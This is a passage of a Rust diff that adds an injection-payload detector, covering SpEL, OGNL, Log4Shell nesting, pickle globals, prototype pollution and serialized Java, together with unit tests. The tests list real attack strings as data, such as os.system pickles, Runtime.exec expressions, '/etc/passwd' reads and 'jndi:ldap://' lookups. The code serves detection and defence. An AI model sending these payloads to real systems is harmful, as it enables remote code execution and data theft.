+        let args = &s[at + c.len()..s.len().min(at + c.len() + 96)];
+        let args = &args[..args
+            .iter()
+            .position(|&b| b == b')' || b == b';')
+            .unwrap_or(args.len())];
+        // Each quoted argument (at most four).
+        let mut rest = args;
+        for _ in 0..4 {
+            let Some(q) = rest.iter().position(|b| matches!(b, b'\'' | b'"')) else {
+                return false;
+            };
+            let quote = rest[q];
+            let Some(len) = rest[q + 1..].iter().position(|&b| b == quote) else {
+                return false;
+            };
+            let arg = rest[q + 1..q + 1 + len].trim_ascii();
+            let cmd = |t: &[u8]| {
+                t.first()
+                    .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'/')
+            };
+            if arg == b"-|" || arg == b"|-" {
+                return true;
+            }
+            if let Some(t) = arg.strip_prefix(b"|") {
+                if cmd(t.trim_ascii_start()) {
+                    return true;
+                }
+            }
+            if arg.len() > 1 && arg.ends_with(b"|") && cmd(arg) && c == b"open(" {
+                return true;
+            }
+            rest = &rest[q + len + 2..];
+        }
+        false
+    })
+}
+
+/// SpEL's type operator on a class (`T(java.lang.Runtime)`,
+/// `T(Runtime).getRuntime()`): the expression reaches a static method.
+fn spel_type(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = s.get(from..).and_then(|t| find(t, b"t(")) {
+        let at = from + p;
+        from = at + 2;
+        if !starts_name(s, at) {
+            continue;
+        }
+        let k = at + 2;
+        let len = s[k..]
+            .iter()
+            .take(96)
+            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'$'))
+            .count();
+        let class = &s[k..k + len];
+        if s.get(k + len) != Some(&b')') {
+            continue;
+        }
+        let packaged = [
+            b"java." as &[u8],
+            b"javax.",
+            b"org.",
+            b"com.",
+            b"jdk.",
+            b"sun.",
+        ]
+        .iter()
+        .any(|p| class.starts_with(p) && class.len() > p.len());
+        let bare = [
+            b"runtime" as &[u8],
+            b"processbuilder",
+            b"system",
+            b"thread",
+            b"class",
+            b"classloader",
+            b"scriptenginemanager",
+            b"string",
+        ]
+        .contains(&class);
+        if packaged || (bare && s.get(k + len + 1) == Some(&b'.')) {
+            return true;
+        }
+    }
+    false
+}
+
+/// OGNL's static member access, `@java.lang.Runtime@getRuntime()`,
+/// `@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS`: `@`, a dotted class name,
+/// `@` (a Java package root first: an e-mail address has one `@`, and a
+/// URL's `user@host` is not followed by another).
+fn ognl_static(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'@', t)) {
+        let at = from + p;
+        from = at + 1;
+        let len = s[at + 1..]
+            .iter()
+            .take(96)
+            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'$'))
+            .count();
+        let class = &s[at + 1..at + 1 + len];
+        if s.get(at + 1 + len) == Some(&b'@')
+            && [
+                b"java." as &[u8],
+                b"javax.",
+                b"ognl.",
+                b"org.",
+                b"com.",
+                b"sun.",
+                b"jdk.",
+            ]
+            .iter()
+            .any(|r| class.starts_with(r) && class.len() > r.len())
+            && s.get(at + 2 + len)
+                .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
+        {
+            return true;
+        }
+    }
+    false
+}
+
+/// Log4Shell's nesting: a lookup opened inside another one before it
+/// closes (`${j${lower:n}di:`, `${${::-j}`), the evasion of a filter on
+/// `${jndi:`; a template placeholder is never nested.
+fn nested_lookup(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = s.get(from..).and_then(|t| find(t, b"${")) {
+        let at = from + p;
+        from = at + 2;
+        let inner = &s[at + 2..s.len().min(at + 2 + 32)];
+        let close = inner.iter().position(|&b| b == b'}').unwrap_or(inner.len());
+        if let Some(q) = find(&inner[..close], b"${") {
+            // `${a${` with letters only before the inner one.
+            if inner[..q].iter().all(|b| b.is_ascii_alphabetic()) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+/// A pickle of protocol 0 importing a function that runs programs or code
+/// (`cos\nsystem\n(S'id'\ntR.`, `c__builtin__\neval\n`): what
+/// `pickle.loads` of the value would call.
+fn pickle_global(s: &[u8]) -> bool {
+    const MODULES: &[&[u8]] = &[
+        b"__builtin__",
+        b"builtins",
+        b"commands",
+        b"nt",
+        b"os",
+        b"posix",
+        b"pty",
+        b"socket",
+        b"subprocess",
+    ];
+    let mut line_start = 0;
+    for nl in memchr::memchr_iter(b'\n', s) {
+        let line = &s[line_start..nl];
+        line_start = nl + 1;
+        let line = line.strip_prefix(b"(").unwrap_or(line);
+        let Some(module) = line.strip_prefix(b"c") else {
+            continue;
+        };
+        if !MODULES.contains(&module) {
+            continue;
+        }
+        let name = &s[nl + 1..];
+        let len = name
+            .iter()
+            .take(24)
+            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+            .count();
+        if len > 0 && name.get(len) == Some(&b'\n') {
+            return true;
+        }
+    }
+    false
+}
+
+/// JSON or query-string prototype pollution that names the constructor's
+/// prototype as two keys (`{"constructor":{"prototype":{..}}}`,
+/// `constructor][prototype`): `rce.rs` reads the dotted and bracketed forms.
+fn prototype_key(s: &[u8]) -> bool {
+    let mut from = 0;
+    while let Some(p) = s.get(from..).and_then(|t| find(t, b"constructor")) {
+        let at = from + p;
+        from = at + 11;
+        let gap = s[from..]
+            .iter()
+            .take(8)
+            .take_while(|b| matches!(b, b'"' | b'\'' | b':' | b'{' | b'[' | b']' | b' ' | b'='))
+            .count();
+        if gap > 0 && s[from + gap..].starts_with(b"prototype") {
+            return true;
+        }
+    }
+    false
+}
+
+/// A Java serialized object as the value: the stream's magic `AC ED 00 05`
+/// in base64 (`rO0AB`, lowercased here) or hex, followed by more of the
+/// stream (Java deserialisation gadgets).
+fn serialized_java(s: &[u8]) -> bool {
+    let t = s.trim_ascii_start();
+    let body = |rest: &[u8], alphabet: fn(&u8) -> bool| {
+        rest.len() >= 8 && rest.iter().take(32).all(alphabet)
+    };
+    if let Some(rest) = t.strip_prefix(b"ro0ab") {
+        return body(rest, |b| {
+            b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')
+        });
+    }
+    if let Some(rest) = t.strip_prefix(b"aced0005") {
+        return body(rest, u8::is_ascii_hexdigit);
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::normalize::{normalize, Encoding, WINDOW};
+    use super::*;
+
+    fn flags(raw: &str) -> bool {
+        let mut buf = [0u8; WINDOW];
+        detect(&normalize(raw.as_bytes(), Encoding::RAW, &mut buf))
+    }
+
+    #[test]
+    fn php_risky_is_sorted() {
+        assert!(PHP_RISKY.windows(2).all(|w| w[0] < w[1]));
+        assert!(NODE_MODULES.windows(2).all(|w| w[0] < w[1]));
+        assert!(PHP_WORDS.windows(2).all(|w| w[0] < w[1]));
+        assert!(PHP_INI_STRONG.windows(2).all(|w| w[0] < w[1]));
+    }
+
+    #[test]
+    fn php() {
+        for attack in [
+            "proc_nice(5)",
+            "x;stream_socket_client(\"tcp://10.0.0.1:80\");",
+            "posix_setsid ()",
+            "foo;exec (ls)",
+            "x';system ('id');//",
+            "'.file('/etc/passwd').'",
+            "escapeshellcmd #c\n($x)",
+            "FOO;set_error_handler('system');",
+            "echo $_GET['x'];",
+            "print_r($GLOBALS)",
+            "x=1&y=$_COOKIE",
+            "$HTTP_RAW_POST_DATA",
+            "O:+8:\"stdClass\":1:{}",
+            "-d allow_url_include=1 -d auto_prepend_file=php://input",
+            "[php]\nopen_basedir = /\n",
+            "<?xml:namespace prefix=x>",
+            "wp_remote_get('http://x')",
+            "array_udiff($a,$b,'system')",
+            "data:application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+",
+            "data:image/png;base64,PD89YGlkYDs/Pg==",
+            "a:1:{i:0;C: 11:\"ArrayObject\":0:{}}",
+        ] {
+            assert!(flags(attack), "{attack}");
+        }
+        for benign in [
+            "$(form).serialize()",
+            "$obj->ini_get('x')",
+            "Use proc_nice to lower priority",
+            "System (default)",
+            "Print (color); copy (2)",
+            "It's late; print (this)",
+            "price: $_ 5",
+            "$globalsettings",
+            "$_GET is PHP's query array",
+            "foo $GLOBALS bar",
+            "o: 8: \"x\"",
+            "Photo: 8:\"x\"",
+            "safe_mode==1",
+            "my_safe_mode=1",
+            "data:image/png;base64,iVBORw0KGgo=",
+        ] {
+            assert!(!flags(benign), "{benign}");
+        }
+    }
+
+    #[test]
+    fn node() {
+        for attack in [
+            "require('fs').readFileSync('/etc/passwd')",
+            "require(\"node:net\")",
+            "';require('fs').readdirSync('.');//",
+            "process.cwd()",
+            "'+process.env+'",
+            "fs.readFileSync('/etc/passwd')",
+            "while (true) {}",
+            ";while(1);",
+            "{\"constructor\":{\"prototype\":{\"a\":1}}}",
+            "x[constructor][prototype]=1",
+        ] {
+            assert!(flags(attack), "{attack}");
+        }
+        for benign in [
+            "In Node, const fs = require('fs'); reads files",
+            "set process.env.API_KEY before you start",
+            "while (true love waits)",
+            "Use fs.readFileSync for small files",
+            "the constructor and the prototype",
+        ] {
+            assert!(!flags(benign), "{benign}");
+        }
+    }
+
+    #[test]
+    fn python() {
+        for attack in [
+            "().__class__.__bases__[0].__subclasses__()",
+            "[].__class__.__base__",
+            "getattr(__builtins__,'eval')",
+            "subprocess.run(['id'])",
+            "os.execv('/bin/sh',['sh'])",
+            "def __reduce__(self): return (os.system,('id',))",
+            "import os;os.getcwd()",
+            "pickle.loads(x)",
+            "cos\nsystem\n(S'id'\ntR.",
+            "c__builtin__\neval\n(Vprint(1)\ntR.",
+        ] {
+            assert!(flags(attack), "{attack}");
+        }
+        for benign in [
+            "self.__class__.__name__",
+            "we use subprocess.run in the CI",
+            "to load, call pickle.loads on trusted data only",
+            "cost\nsystem\nx",
+            "c os\nsystem\n",
+        ] {
+            assert!(!flags(benign), "{benign}");
+        }
+    }
+
+    #[test]
+    fn ruby_perl() {
+        for attack in [
+            "%x(id)",
+            "%x{cat /etc/passwd}",
+            "qx/id/",
+            "qx{uname -a}",
+            "Object.const_get(\"Kernel\").send(:system,\"id\")",
+            "1.send(:system,'id')",
+            "Kernel.open(\"|id\")",
+            "open(F,\"id|\")",
+            "open(my $fh, \"-|\", \"id\")",
+            "IO.read(\"|id\")",
+            "Marshal.load(x)",
+            "--- !ruby/object:Gem::Installer\ni: x",
+            "use IO::Socket;",
+            "system \"id\"",
+        ] {
+            assert!(flags(attack), "{attack}");
+        }
+        for benign in [
+            "Infiniti QX(60) for sale",
+            "50%x(2) growth",
+            "open(file, \"r\")",
+            "open the door|close it",
+            "send(:email)",
+            "the system 'works'",
+        ] {
+            assert!(!flags(benign), "{benign}");
+        }
+    }
+
+    #[test]
+    fn java() {
+        for attack in [
+            "T(java.lang.Runtime).getRuntime().exec('id')",
+            "T(Runtime).getRuntime()",
+            "#_memberAccess[\"allowStaticMethodAccess\"]=true",
+            "#context['xwork.MethodAccessor.denyMethodExecution']=false",
+            "@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
+            "groovy.lang.GroovyShell",
+            "org.springframework.context.support.ClassPathXmlApplicationContext",
+            "org.apache.naming.factory.BeanFactory",
+            "new java.util.Scanner(x)",
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+            "aced00057372001a",
+            "${j${k8s:k5:-ND}i:ldap://x}",
+            "${jn${lower:d}i:x}",
+            "jndi:ldap://1.2.3.4/a",
+            "Class.forName(\"java.lang.Runtime\")",
+        ] {
+            assert!(flags(attack), "{attack}");
+        }
+        for benign in [
+            "dev@java.net",
+            "a@b.c@d",
+            "T(x)",
+            "the T(5) model",
+            "${user}${name}",
+            "${a} and ${b}",
+            "Load the driver with Class.forName(\"com.mysql.Driver\") first",
+            "ro0abcdef",
+            "acedemic",
+        ] {
+            assert!(!flags(benign), "{benign}");
+        }
+    }
+}
